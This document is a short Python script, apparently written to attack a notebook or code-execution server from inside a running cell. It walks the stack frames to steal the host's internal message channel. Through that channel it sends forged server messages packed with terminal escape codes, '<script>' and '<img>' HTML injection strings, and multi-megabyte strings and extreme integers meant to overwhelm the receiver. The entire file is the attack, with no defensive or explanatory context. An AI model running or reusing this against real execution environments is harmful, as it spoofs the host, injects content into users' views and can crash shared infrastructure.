"""Speaks for the server while the cells run: a flood of names, places and outputs that no cell has."""

import sys


def flood():
    frame = sys._getframe()
    while frame is not None:
        for thing in frame.f_locals.values():
            if hasattr(thing, "_channel"):
                channel = thing._channel
        frame = frame.f_back
    for number in range(-50, 2):
        note = ["</pre>\x1b[2J" * 100] * 30
        channel.send(17, 0, (number, "\x1b[2J<script>", "", "<img>", ("A" * 10**6, "B" * 10**6, -(2**62)), note))
    channel.send(18, 0, (["corr2d_multi_in_ou" + "t" * 9000] * 500, [("x" * 1000, 2**62, -(2**62))] * 3000))


flood()
